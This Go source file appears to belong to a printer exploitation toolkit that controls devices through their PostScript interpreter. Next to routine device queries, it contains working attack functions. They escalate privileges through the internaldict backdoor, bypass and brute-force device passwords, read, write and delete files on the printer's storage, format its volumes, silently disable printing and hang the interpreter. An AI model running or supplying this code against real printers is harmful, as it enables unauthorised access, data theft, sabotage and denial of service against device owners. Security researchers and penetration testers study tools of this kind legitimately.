package prex

import (
	"bufio"
	"bytes"
	"fmt"
	"io"
	"regexp"
	"sort"
	"strconv"
	"strings"
	"time"
)

var (
	psFlushRe  = regexp.MustCompile(psFlush)
	psCatchEOL = regexp.MustCompile(`%%\[ (.*?) \]%%\r?\n?`)
	psVolName  = regexp.MustCompile(`^%[^%]*%`)
)

// PostScript drives a device through its PostScript interpreter. The
// interpreter is a full programming language, so most operations are
// small programs whose output is collected through the job channel.
type PostScript struct {
	*Session

	feedback  Feedback
	resources []string // cached resource categories
}

// NewPostScript starts PostScript on an open session. Unless the
// configuration pins a feedback mode, the device is probed: hard copy
// error printing is disabled and a two-part echo tells apart devices
// with a sane output channel, devices needing the %stdout hack for
// every command, and devices that never talk back.
func NewPostScript(s *Session) (*PostScript, error) {
	ps := &PostScript{Session: s, feedback: s.config.Feedback}
	if ps.feedback != FeedbackAuto {
		return ps, nil
	}
	// probe in crippled framing: = stays original while the hack
	// rewires ==, so x1 means a sane channel, x2 means only the
	// %stdout hack gets through, and silence means no channel at all
	ps.feedback = FeedbackCrippled
	reply, err := ps.Command([]byte("(x1) = (x2) == << /DoPrintErrors false >> setsystemparams"), CmdOptions{})
	if err != nil {
		return ps, err
	}
	switch {
	case bytes.Contains(reply, []byte("x1")) || ps.lastError != nil:
		ps.feedback = FeedbackNormal
	case bytes.Contains(reply, []byte("x2")):
		// = is broken but == got through, e.g. brother
		ps.feedback = FeedbackCrippled
		ps.log.Warn("crippled feedback, stdout write hack enabled")
	default:
		ps.feedback = FeedbackNone
		ps.log.Warn("no feedback, printer busy, non-ps or silent")
	}
	return ps, nil
}

// Feedback returns the detected output channel mode.
func (ps *PostScript) Feedback() Feedback {
	return ps.feedback
}

// Command frames payload as one PostScript job and collects the reply.
// The job ends by printing a fresh token; the reply is everything
// before the echo. On crippled devices the payload is wrapped in
// stopped and prefixed with the output hack.
func (ps *PostScript) Command(payload []byte, o CmdOptions) ([]byte, error) {
	ps.capture(payload)
	token := ps.mintToken(payload)

	var job bytes.Buffer
	job.WriteString(UEL)
	job.WriteString(psHeader)
	if ps.feedback == FeedbackCrippled {
		job.WriteString(psIOHack)
		job.WriteString("{")
		job.Write(payload)
		job.WriteString("} stopped")
	} else {
		job.Write(payload)
	}
	// the extra line feed coaxes output out of some interpreters
	job.WriteString("\n(" + token + "\\n) print flush\n")

	if err := ps.send(job.Bytes()); err != nil {
		return ps.recover(err)
	}
	if o.NoWait {
		return nil, nil
	}

	pattern := regexp.MustCompile(regexp.QuoteMeta(token) + "|" + psFlush)
	reply, err := ps.transport.Recv(pattern, ps.effTimeout(o.TimeoutFactor))
	if err != nil {
		return ps.recover(err)
	}
	return ps.psErr(reply), nil
}

// psErr separates interpreter errors from payload output. A command
// that errored produces no usable output, so the reply is dropped and
// the error kept on the session. Plain status messages are logged and
// stripped.
func (ps *PostScript) psErr(reply []byte) []byte {
	ps.lastError = nil
	if m := psError.FindSubmatch(reply); m != nil {
		ps.deviceError("PostScript error: " + string(m[1]))
		return nil
	}
	if m := psCatch.FindSubmatch(reply); m != nil {
		ps.log.Debugf("status message: %q", strings.TrimSpace(string(m[1])))
		reply = psCatchEOL.ReplaceAll(reply, nil)
	}
	return reply
}

func (ps *PostScript) cmd(s string) ([]byte, error) {
	return ps.Command([]byte(s), CmdOptions{})
}

func (ps *PostScript) cmdNoWait(s string) error {
	_, err := ps.Command([]byte(s), CmdOptions{NoWait: true})
	return err
}

// GlobalCommand promotes payload out of the server loop so its side
// effects survive the job boundary.
func (ps *PostScript) GlobalCommand(payload []byte, o CmdOptions) ([]byte, error) {
	return ps.Command(append([]byte(psGlobal), payload...), o)
}

// SuperCommand executes payload with systemdict privileges through the
// internaldict backdoor, bypassing invalidaccess.
func (ps *PostScript) SuperCommand(payload []byte, o CmdOptions) ([]byte, error) {
	var job bytes.Buffer
	job.WriteString("{")
	job.Write(payload)
	job.WriteString("}")
	job.WriteString(psSuper)
	return ps.Command(job.Bytes(), o)
}

// psEscape quotes the characters PostScript strings cannot carry raw.
var psEscape = strings.NewReplacer(`\`, `\\`, `(`, `\(`, `)`, `\)`)

// --------------------------------------------------------------------
// filesystem

// Capabilities reports the PostScript filesystem surface.
func (ps *PostScript) Capabilities() Capability {
	return CapList | CapRead | CapWrite | CapAppend | CapDelete | CapMkdir | CapFormat
}

// Volumes lists the storage volumes the interpreter reports.
func (ps *PostScript) Volumes() ([]string, error) {
	reply, err := ps.cmd(`/str 128 string def (*) {print (\n) print} str devforall`)
	if err != nil {
		return nil, err
	}
	var vols []string
	for _, line := range strings.Split(string(reply), "\n") {
		line = strings.TrimSpace(line)
		if line != "" {
			vols = append(vols, line)
		}
	}
	return vols, nil
}

// find runs filenameforall on a wildcard pattern. Name extension is
// disabled first so brother devices list everything.
func (ps *PostScript) find(pattern string) ([]byte, error) {
	payload := "{false statusdict /setfilenameextend get exec} stopped\n" +
		"/str 256 string def (" + pattern + ") " +
		`{print (\n) print} str filenameforall`
	return ps.Command([]byte(payload), CmdOptions{TimeoutFactor: 2})
}

// dirlist returns the sorted full names below dir, as the interpreter
// spells them. The ** wildcard also lists dotfiles; devices that choke
// on it get a second chance with *.
func (ps *PostScript) dirlist(dir string) ([]string, error) {
	full := ps.rpath(dir)
	prefix := psEscape.Replace(full)
	if prefix != "" && !strings.HasSuffix(prefix, SEP) {
		prefix += SEP
	}
	vol := ""
	if ps.vol == "" {
		vol = "%*%" // search all volumes if none selected
	}
	reply, err := ps.find(vol + prefix + "**")
	if err != nil {
		return nil, err
	}
	if len(reply) == 0 {
		if reply, err = ps.find(vol + prefix + "*"); err != nil {
			return nil, err
		}
	}
	seen := map[string]bool{}
	var names []string
	for _, line := range strings.Split(string(reply), "\n") {
		name := strings.Trim(line, "\r ")
		if name != "" && !seen[name] {
			seen[name] = true
			names = append(names, name)
		}
	}
	sort.Strings(names)
	return names, nil
}

// statFile runs the status operator on a full remote path. It returns
// the size sentinel plus timestamps when the interpreter reports them.
// Broken interpreters answer true only, which can also mean directory.
func (ps *PostScript) statFile(full string) (size int64, created, modified time.Time) {
	reply, err := ps.cmd("(" + psEscape.Replace(full) + ") status dup {pop == == == ==} if")
	if err != nil || len(reply) == 0 {
		return Nonexistent, time.Time{}, time.Time{}
	}
	if n, ct, mt, ok := ParsePSStat(reply); ok {
		return n, time.Unix(ct, 0), time.Unix(mt, 0)
	}
	if strings.TrimSpace(string(reply)) == "true" {
		return FileExists, time.Time{}, time.Time{}
	}
	return Nonexistent, time.Time{}, time.Time{}
}

// Exists returns the file size, FileExists when only existence is
// known, or Nonexistent.
func (ps *PostScript) Exists(path string) int64 {
	size, _, _ := ps.statFile(ps.rpath(path))
	return size
}

// dirExists checks a directory against an already fetched listing.
// With fuzzing enabled the status operator is asked instead, since
// filenameforall hides locations outside the search path.
func (ps *PostScript) dirExists(full string, names []string) bool {
	if ps.config.Fuzz && names == nil {
		return ps.Exists(full) != Nonexistent
	}
	pat := regexp.MustCompile(`^(%[^%]*%)?` + regexp.QuoteMeta(full) + regexp.QuoteMeta(SEP))
	for _, name := range names {
		if pat.MatchString(name) {
			return true
		}
	}
	return false
}

// List returns the contents of a remote directory. The interpreter
// only enumerates full paths, so entries are folded to the requested
// depth and stat'd one by one.
func (ps *PostScript) List(dir string) ([]DirEntry, error) {
	names, err := ps.dirlist(dir)
	if err != nil {
		return nil, err
	}
	full := ps.rpath(dir)
	depth := 0
	if full != "" {
		depth = strings.Count(strings.Trim(full, SEP), SEP) + 1
	}

	seen := map[string]bool{}
	var entries []DirEntry
	for _, name := range names {
		bare := psVolName.ReplaceAllString(name, "")
		parts := strings.Split(strings.Trim(bare, SEP), SEP)
		if len(parts) <= depth {
			continue
		}
		head := strings.Join(parts[:depth+1], SEP)
		if seen[head] {
			continue
		}
		seen[head] = true

		e := DirEntry{Name: parts[depth], Size: -1}
		if ps.dirExists(head, names) {
			e.Dir = true
		} else {
			size, _, mtime := ps.statFile(head)
			if size >= 0 {
				e.Size = size
			}
			e.MTime = mtime
		}
		entries = append(entries, e)
	}
	sortEntries(entries)
	return entries, nil
}

// Read downloads a remote file one byte at a time; the interpreter has
// no bulk read that is safe for binary data.
func (ps *PostScript) Read(path string) ([]byte, error) {
	full := ps.rpath(path)
	if size, _, _ := ps.statFile(full); size == Nonexistent {
		return nil, NewPathError(ErrNotFound, "no such file", path)
	}
	payload := "/byte (0) def\n" +
		"/infile (" + psEscape.Replace(full) + ") (r) file def\n" +
		"{infile read {byte exch 0 exch put\n" +
		"(%stdout) (w) file byte writestring}\n" +
		"{infile closefile exit} ifelse\n" +
		"} loop"
	return ps.Command([]byte(payload), CmdOptions{Binary: true})
}

// put writes data to a remote file in the given open mode. Data goes
// over as octal escapes so binary content survives.
func (ps *PostScript) put(full string, data []byte, mode string) error {
	if ps.feedback == FeedbackCrippled {
		ps.log.Warn("writing will probably fail on this device")
	}
	var octal strings.Builder
	for _, b := range data {
		fmt.Fprintf(&octal, `\%03o`, b)
	}
	payload := "/outfile (" + psEscape.Replace(full) + ") (" + mode + ") file def\n" +
		"outfile (" + octal.String() + ") writestring\n" +
		"outfile closefile\n"
	return ps.cmdNoWait(payload)
}

// Write uploads data to a remote file, replacing it.
func (ps *PostScript) Write(path string, data []byte) error {
	return ps.put(ps.rpath(path), data, "w+")
}

// Append appends data to a remote file.
func (ps *PostScript) Append(path string, data []byte) error {
	return ps.put(ps.rpath(path), data, "a+")
}

// Delete removes a remote file.
func (ps *PostScript) Delete(path string) error {
	return ps.cmdNoWait("(" + psEscape.Replace(ps.rpath(path)) + ") deletefile")
}

// Rename renames a remote file.
func (ps *PostScript) Rename(old, new string) error {
	return ps.cmdNoWait("(" + psEscape.Replace(ps.rpath(old)) + ") (" +
		psEscape.Replace(ps.rpath(new)) + ") renamefile")
}

// Mkdir creates a remote directory by writing a placeholder file into
// it; empty directories are not listed, so the placeholder stays.
func (ps *PostScript) Mkdir(dir string) error {
	return ps.put(ps.rpath(dir)+SEP+".dirfile", nil, "w+")
}

// Format initializes the filesystem on the selected volume, destroying
// all user data. A volume must be selected first.
func (ps *PostScript) Format() error {
	if ps.vol == "" {
		return NewError(ErrUnsupported, "no volume selected")
	}
	vol := strings.TrimSuffix(ps.vol, SEP)
	return ps.cmdNoWait("statusdict begin (" + vol + ") () initializedisk end")
}

// Walk lists the tree under dir recursively.
func (ps *PostScript) Walk(dir string, fn WalkFunc) error {
	return walkFS(ps, dir, fn, func(e DirEntry) bool { return e.Dir })
}

// --------------------------------------------------------------------
// device information

// ID returns the device product string.
func (ps *PostScript) ID() (string, error) {
	reply, err := ps.cmd("product print")
	return strings.TrimSpace(string(reply)), err
}

// Version reports the interpreter dialect, version and identifiers.
func (ps *PostScript) Version() (string, error) {
	payload := "(Dialect:  ) print\n" +
		`currentpagedevice dup (PostRenderingEnhance) known {(Adobe\n)   print}` + "\n" +
		`{serverdict       dup (execkpdlbatch)        known {(KPDL\n)    print}` + "\n" +
		"{statusdict       dup (BRversion)            known {(BR-Script ) print\n" +
		"/BRversion get ==}{(Unknown) print} ifelse} ifelse} ifelse\n" +
		"currentsystemparams 11 {dup} repeat\n" +
		"                     (Version:  ) print version           ==\n" +
		"                     (Level:    ) print languagelevel     ==\n" +
		"                     (Revision: ) print revision          ==\n" +
		"                     (Serial:   ) print serialnumber      ==\n" +
		"/SerialNumber known {(Number:   ) print /SerialNumber get ==} if\n" +
		"/BuildTime    known {(Built:    ) print /BuildTime    get ==} if\n" +
		"/PrinterName  known {(Printer:  ) print /PrinterName  get ==} if\n" +
		"/LicenseID    known {(License:  ) print /LicenseID    get ==} if\n" +
		"/PrinterCode  known {(Device:   ) print /PrinterCode  get ==} if\n" +
		"/EngineCode   known {(Engine:   ) print /EngineCode   get ==} if"
	reply, err := ps.cmd(payload)
	return strings.TrimSpace(string(reply)), err
}

// VolumeStatus is one devstatus readback row.
type VolumeStatus struct {
	Name   string
	Fields []string
}

// DF reports size, free space and flags per volume. Fields follow the
// devstatus order: total size, free, priority, removable, mounted,
// hasnames, writeable, searchable.
func (ps *PostScript) DF() ([]VolumeStatus, error) {
	vols, err := ps.Volumes()
	if err != nil {
		return nil, err
	}
	var out []VolumeStatus
	for _, vol := range vols {
		reply, err := ps.cmd("(" + vol + ") devstatus dup {pop " + strings.Repeat("== ", 8) + "} if")
		if err != nil {
			return out, err
		}
		fields := strings.Fields(string(reply))
		if len(fields) != 8 {
			fields = []string{"-", "-", "-", "-", "-", "-", "-", "-"}
		}
		out = append(out, VolumeStatus{Name: vol, Fields: fields})
	}
	return out, nil
}

// Free reports RAM, virtual memory and cache status.
func (ps *PostScript) Free() (string, error) {
	sections := []string{
		"currentsystemparams dup dup dup\n" +
			"/mb 1048576 def /kb 100 def /str 32 string def\n" +
			"(size:   ) print /InstalledRam known {\n" +
			`  /InstalledRam get dup mb div cvi str cvs print (.) print kb mod cvi str cvs print (M\n) print}{pop (Not available\n) print` + "\n" +
			"} ifelse\n" +
			"(free:   ) print /RamSize known {\n" +
			`  /RamSize get dup mb div cvi str cvs print (.) print kb mod cvi str cvs print (M\n) print}{pop (Not available\n) print` + "\n" +
			"} ifelse",
		"vmstatus\n" +
			"/mb 1048576 def /kb 100 def /str 32 string def\n" +
			`(max:    ) print dup mb div cvi str cvs print (.) print kb mod cvi str cvs print (M\n) print` + "\n" +
			`(used:   ) print dup mb div cvi str cvs print (.) print kb mod cvi str cvs print (M\n) print` + "\n" +
			"(level:  ) print ==",
		"cachestatus\n" +
			"(blimit: ) print ==\n(cmax:   ) print ==\n(csize:  ) print ==\n" +
			"(mmax:   ) print ==\n(msize:  ) print ==\n(bmax:   ) print ==\n(bsize:  ) print ==",
	}
	var out []string
	for _, section := range sections {
		reply, err := ps.cmd(section)
		if err != nil {
			return strings.Join(out, "\n"), err
		}
		out = append(out, strings.TrimSpace(string(reply)))
	}
	return strings.Join(out, "\n"), nil
}

// Devices lists the IODevice resources and their parameters.
func (ps *PostScript) Devices() (map[string]string, error) {
	reply, err := ps.cmd(`/str 128 string def (*) {print (\n) print} str /IODevice resourceforall`)
	if err != nil {
		return nil, err
	}
	out := map[string]string{}
	for _, line := range strings.Split(string(reply), "\n") {
		dev := strings.TrimSpace(line)
		if dev == "" {
			continue
		}
		params, err := ps.cmd("(" + dev + ") currentdevparams {exch 128 string cvs print (: ) print ==} forall")
		if err != nil {
			return out, err
		}
		out[dev] = strings.TrimSpace(string(params))
	}
	return out, nil
}

// Uptime returns the interpreter clock, which on many devices counts
// milliseconds since power-on.
func (ps *PostScript) Uptime() (time.Duration, error) {
	reply, err := ps.cmd("realtime ==")
	if err != nil {
		return 0, err
	}
	ms, cerr := strconv.ParseInt(strings.TrimSpace(string(reply)), 10, 64)
	if cerr != nil {
		return 0, NewError(ErrProtocol, "no uptime readback")
	}
	return time.Duration(ms) * time.Millisecond, nil
}

// Date returns the device calendar time, if a calendar is present.
func (ps *PostScript) Date() (string, error) {
	payload := "(%Calendar%) /IODevice resourcestatus\n" +
		"{(%Calendar%) currentdevparams /DateTime get print}\n" +
		"{(Not available) print} ifelse"
	reply, err := ps.cmd(payload)
	return strings.TrimSpace(string(reply)), err
}

// Pagecount returns the hardware page counter.
func (ps *PostScript) Pagecount() (string, error) {
	payload := "currentsystemparams dup /PageCount known\n" +
		"{/PageCount get ==}{(Not available) print} ifelse"
	reply, err := ps.cmd(payload)
	return strings.TrimSpace(string(reply)), err
}

// --------------------------------------------------------------------
// interpreter state

// Known asks systemdict which of the given operators exist.
func (ps *PostScript) Known(ops []string) (map[string]bool, error) {
	var lines []string
	for _, op := range ops {
		lines = append(lines, "("+op+": ) print systemdict /"+op+" known ==")
	}
	reply, err := ps.cmd(strings.Join(lines, "\n"))
	if err != nil {
		return nil, err
	}
	out := map[string]bool{}
	for _, line := range strings.Split(string(reply), "\n") {
		name, val, found := strings.Cut(strings.TrimSpace(line), ": ")
		if found {
			out[name] = strings.TrimSpace(val) == "true"
		}
	}
	return out, nil
}

// Search looks a key up across all dictionaries and returns its value.
func (ps *PostScript) Search(key string) (string, error) {
	reply, err := ps.cmd("(" + key + ") where {(" + key + ") get ==} if")
	return strings.TrimSpace(string(reply)), err
}

// dictNames are the standard dictionaries worth inspecting. Vendors
// hide more behind proprietary names.
var dictNames = []string{
	"systemdict", "statusdict", "userdict", "globaldict",
	"serverdict", "errordict", "internaldict", "currentpagedevice",
	"currentuserparams", "currentsystemparams",
}

// DictNames lists the standard dictionary names Dicts inspects.
func DictNames() []string {
	return append([]string(nil), dictNames...)
}

// DictInfo describes a dictionary: access flags and fill level.
type DictInfo struct {
	Name  string
	Perms string // rwx flags
	Len   int
	Max   int
}

// Dicts probes the standard dictionaries and reports permissions and
// length of each one present. The internaldict magic number puts the
// protected ones on the stack too.
func (ps *PostScript) Dicts() ([]DictInfo, error) {
	var dicts []DictInfo
	for _, name := range dictNames {
		reply, err := ps.cmd("1183615869 " + name + "\n" +
			"dup rcheck {(r) print}{(-) print} ifelse\n" +
			"dup wcheck {(w) print}{(-) print} ifelse\n" +
			"dup xcheck {(x) print}{(-) print} ifelse\n" +
			"( ) print dup length 128 string cvs print\n" +
			"( ) print maxlength 128 string cvs print")
		if err != nil {
			return dicts, err
		}
		fields := strings.Fields(string(reply))
		if len(fields) != 3 {
			continue // not known to this interpreter
		}
		d := DictInfo{Name: name, Perms: fields[0]}
		d.Len, _ = strconv.Atoi(fields[1])
		d.Max, _ = strconv.Atoi(fields[2])
		dicts = append(dicts, d)
	}
	return dicts, nil
}

// psDumpLib defines the serializer run by DumpDict: it walks a
// dictionary recursively and prints it as JSON, tracking visited dicts
// to cut cycles and degrading unreadable values to placeholders.
const psDumpLib = `/strcat {exch dup length 2 index length add string dup
dup 4 2 roll copy length 4 -1 roll putinterval} def
/remove {exch pop () exch 3 1 roll exch strcat strcat} def
/escape { {(") search {remove}{exit} ifelse} loop
          {(/) search {remove}{exit} ifelse} loop
          {(\\) search {remove}{exit} ifelse} loop } def
/clones 220 array def /counter 0 def
/redundancy { /redundant false def
  clones {exch dup 3 1 roll eq {/redundant true def} if} forall
  redundant not {
  dup clones counter 3 2 roll put
  /counter counter 1 add def
  } if redundant} def
/wd {redundancy {pop q (<redundant dict>) p q bc s}
{bo n {t exch q 128 a q c dump n} forall bc bc s} ifelse } def
/wa {q q bc s} def
/n  {(\n) print} def
/t  {(\t) print} def
/bo {({) print} def
/bc {(}) print} def
/q  {(") print} def
/s  {(,) print} def
/c  {(: ) print} def
/p  {print} def
/a  {string cvs print} def
/pe {escape print} def
/ae {string cvs escape print} def
/perms { readable {(r) p}{(-) p} ifelse
         writeable {(w) p}{(-) p} ifelse } def
/rwcheck {
  dup rcheck not {/readable false def} if
  dup wcheck not {/writeable false def} if perms } def
/dump {
  /readable true def /writeable true def
  dup type bo ("type": ) p q 16 a q s
  ( "perms": ) p q
  dup type /stringtype eq {rwcheck} {
    dup type /dicttype eq {rwcheck} {
      dup type /arraytype eq {rwcheck} {
        dup type /packedarraytype eq {rwcheck} {
          dup type /filetype eq {rwcheck} {
            perms }
          ifelse} ifelse} ifelse} ifelse} ifelse
  dup xcheck {(x) p}{(-) p} ifelse
  q s ( "value": ) p
  readable false eq {pop q (<access denied>) p q bc s}{
  dup type /integertype     eq {q  12        a q bc s}{
  dup type /operatortype    eq {q 128       ae q bc s}{
  dup type /stringtype      eq {q           pe q bc s}{
  dup type /booleantype     eq {q   5        a q bc s}{
  dup type /dicttype        eq {            wd       }{
  dup type /arraytype       eq {            wa       }{
  dup type /packedarraytype eq {            wa       }{
  dup type /nametype        eq {q 128       ae q bc s}{
  dup type /fonttype        eq {q  30       ae q bc s}{
  dup type /nulltype        eq {q pop (null) p q bc s}{
  dup type /realtype        eq {q  42        a q bc s}{
  dup type /filetype        eq {q 100       ae q bc s}{
  dup type /marktype        eq {q 128       ae q bc s}{
  dup type /savetype        eq {q 128       ae q bc s}{
  dup type /gstatetype      eq {q 128       ae q bc s}{
  (<cannot handle>) p}
  ifelse} ifelse} ifelse} ifelse} ifelse} ifelse} ifelse} ifelse}
  ifelse} ifelse} ifelse} ifelse} ifelse} ifelse} ifelse} ifelse}
def
`

// trailing commas the serializer emits before closing brackets
var jsonTrailComma = regexp.MustCompile(`,[ \t\r\n]*([}\]])`)

// DumpDict serializes a dictionary to JSON. The name is resolved with
// where first, so a bogus name errors instead of aborting the job.
func (ps *PostScript) DumpDict(dict string) ([]byte, error) {
	payload := psDumpLib +
		"(" + dict + ") where {" + dumpForall(dict) + "}{(<nonexistent>) print} ifelse"
	reply, err := ps.Command([]byte(payload), CmdOptions{TimeoutFactor: 2})
	if err != nil {
		return nil, err
	}
	if bytes.Contains(reply, []byte("<nonexistent>")) {
		return nil, NewPathError(ErrNotFound, "no such dictionary", dict)
	}
	return jsonTrailComma.ReplaceAll(reply, []byte("$1")), nil
}

func dumpForall(target string) string {
	return "bo 1183615869 " + target + " {exch q 128 a q c dump n} forall bc"
}

// ResourceCategories lists the resource categories the interpreter
// implements. The result is cached on the dialect.
func (ps *PostScript) ResourceCategories() ([]string, error) {
	if ps.resources != nil {
		return ps.resources, nil
	}
	reply, err := ps.cmd(`(*) {print (\n) print} 128 string /Category resourceforall`)
	if err != nil {
		return nil, err
	}
	cats := strings.Fields(string(reply))
	sort.Strings(cats)
	ps.resources = cats
	return cats, nil
}

// Resource lists the instances of one resource category, sorted.
func (ps *PostScript) Resource(category string) ([]string, error) {
	reply, err := ps.cmd(`(*) {128 string cvs print (\n) print} 128 string /` +
		category + " resourceforall")
	if err != nil {
		return nil, err
	}
	items := strings.Fields(string(reply))
	sort.Strings(items)
	return items, nil
}

// DumpResource serializes one resource instance to JSON.
func (ps *PostScript) DumpResource(category, name string) ([]byte, error) {
	payload := psDumpLib + dumpForall("/"+name+" /"+category+" findresource")
	reply, err := ps.Command([]byte(payload), CmdOptions{TimeoutFactor: 2})
	if err != nil {
		return nil, err
	}
	return jsonTrailComma.ReplaceAll(reply, []byte("$1")), nil
}

// Set permanently binds key to a PostScript value expression in the
// topmost dictionary, with superexec covering access-protected dicts.
func (ps *PostScript) Set(key, value string) error {
	payload := "true 0 startjob {\n" +
		"/" + key + " where {/" + key + " " + value + " put} if\n" +
		"/" + key + " " + value + " store\n" +
		"/" + key + " " + value + " def\n" +
		"}" + psSuper
	return ps.cmdNoWait(payload)
}

// configKeys maps config settings to pagedevice keys.
var configKeys = map[string]string{
	"duplex":    "Duplex",
	"copies":    "NumCopies",
	"economode": "EconoMode",
	"negative":  "NegativePrint",
	"mirror":    "MirrorPrint",
}

// Config flips or sets a pagedevice setting for all future jobs. An
// empty value toggles boolean settings.
func (ps *PostScript) Config(setting, value string) (string, error) {
	key, ok := configKeys[setting]
	if !ok {
		return "", NewError(ErrUnsupported, "unknown setting: "+setting)
	}
	if value == "" {
		if setting == "copies" {
			return "", NewError(ErrProtocol, "copies needs a number")
		}
		value = "currentpagedevice /" + key + " get not"
	}
	payload := "currentpagedevice /" + key + " known\n" +
		"{<< /" + key + " " + value + " >> setpagedevice\n" +
		"(" + key + " ) print currentpagedevice /" + key + " get\n" +
		"dup type /integertype eq {(= ) print 8 string cvs print}\n" +
		"{{(enabled)}{(disabled)} ifelse print} ifelse}\n" +
		"{(Not available) print} ifelse"
	reply, err := ps.GlobalCommand([]byte(payload), CmdOptions{})
	return strings.TrimSpace(string(reply)), err
}

// TogglePrinting redefines showpage to a no-op, or restores it. It
// returns the new state.
func (ps *PostScript) TogglePrinting() (string, error) {
	before, err := ps.GlobalCommand([]byte("userdict /showpage known dup ==\n"+
		"{userdict /showpage undef}\n"+
		"{/showpage {} def} ifelse"), CmdOptions{})
	if err != nil {
		return "", err
	}
	after, err := ps.cmd("userdict /showpage known ==")
	if err != nil {
		return "", err
	}
	wasHooked := bytes.Contains(before, []byte("true"))
	isHooked := bytes.Contains(after, []byte("true"))
	switch {
	case wasHooked == isHooked:
		return "", NewError(ErrUnsupported, "showpage hook not available")
	case wasHooked:
		return "printing enabled", nil
	default:
		return "printing disabled", nil
	}
}

// Hold enables job retention via collation details. Vendor-specific;
// works on HP and Kyocera families.
func (ps *PostScript) Hold() (string, error) {
	payload := "currentpagedevice (CollateDetails) get (Hold) get 1 ne\n" +
		"{/retention 1 def}{/retention 0 def} ifelse\n" +
		"<< /Collate true /CollateDetails\n" +
		"<< /Hold retention /Type 8 >> >> setpagedevice\n" +
		"(Job retention ) print\n" +
		"currentpagedevice (CollateDetails) get (Hold) get 1 ne\n" +
		"{(disabled.) print}{(enabled.) print} ifelse"
	reply, err := ps.GlobalCommand([]byte(payload), CmdOptions{})
	return strings.TrimSpace(string(reply)), err
}

// Restart quits the interpreter, resetting the VM. Downloaded state is
// lost; some devices reboot outright.
func (ps *PostScript) Restart() error {
	_, err := ps.GlobalCommand([]byte("systemdict /quit get exec"), CmdOptions{NoWait: true})
	return err
}

// Reset arms a factory default restore for the next power-off. The
// interpreter ignores it unless this job is the last one before the
// device is turned off.
func (ps *PostScript) Reset() error {
	return ps.cmdNoWait("<< /FactoryDefaults true >> setsystemparams")
}

// Hang runs an infinite loop, wedging the interpreter until a manual
// restart.
func (ps *PostScript) Hang() error {
	return ps.cmdNoWait("{} loop")
}

// --------------------------------------------------------------------
// passwords

// Lock sets the system parameter and startjob passwords.
func (ps *PostScript) Lock(password string) error {
	a := psEscape.Replace(password)
	return ps.cmdNoWait("<< /Password () " +
		"/SystemParamsPassword (" + a + ") " +
		"/StartJobPassword (" + a + ") " +
		">> setsystemparams")
}

// Unlock clears the passwords using the given one. It verifies the
// result through the stopped context around setsystemparams.
func (ps *PostScript) Unlock(password string) error {
	reply, err := ps.cmd("{ << /Password (" + psEscape.Replace(password) + ")\n" +
		"  /SystemParamsPassword ()\n" +
		"  /StartJobPassword ()\n" +
		"  >> setsystemparams\n} stopped ==")
	if err != nil {
		return err
	}
	if !bytes.Contains(reply, []byte("false")) {
		return NewError(ErrDevice, "cannot unlock, try a factory reset")
	}
	return nil
}

// UnlockBypass resets both passwords to zero through superexec, then
// clears them. Works on most interpreters that still ship the
// backdoor.
func (ps *PostScript) UnlockBypass() error {
	_, err := ps.SuperCommand([]byte("<< /SystemParamsPassword (0)"+
		" /StartJobPassword (0) >> setsystemparams"), CmdOptions{})
	if err != nil {
		return err
	}
	return ps.Unlock("0")
}

// CrackPassword searches the numeric password space on the device
// itself with checkpassword, which is not rate limited. The loop stops
// at the first hit and echoes it back; an empty result means no
// numeric password below 2^20 matched.
func (ps *PostScript) CrackPassword() (string, error) {
	const max = 1 << 20
	reply, err := ps.Command([]byte("/min 0 def /max "+strconv.Itoa(max)+" def\n"+
		"statusdict begin {min 1 max\n"+
		"  {dup checkpassword {== flush stop}{pop} ifelse} for\n"+
		"} stopped pop"), CmdOptions{TimeoutFactor: 100})
	if err != nil {
		return "", err
	}
	return strings.TrimSpace(string(reply)), nil
}

// --------------------------------------------------------------------
// executive

// Executive runs the interactive PostScript shell, copying device
// output to out and feeding it lines from in. It returns when in is
// exhausted or the interpreter flushes the job, and reconnects to
// leave the session usable.
func (ps *PostScript) Executive(in io.Reader, out io.Writer) error {
	if err := ps.send([]byte(UEL + psHeader + "false echo executive\n")); err != nil {
		return err
	}
	prompt := regexp.MustCompile(psPrompt)
	scanner := bufio.NewScanner(in)
	for {
		reply, err := ps.transport.Recv(prompt, ps.Timeout())
		if err != nil {
			return err
		}
		out.Write(reply)
		if psFlushRe.Match(reply) {
			break
		}
		io.WriteString(out, psPrompt+" ")
		if !scanner.Scan() {
			break
		}
		line := append([]byte{}, scanner.Bytes()...)
		if err := ps.send(append(line, '\n')); err != nil {
			return err
		}
	}
	return ps.transport.Reopen()
}
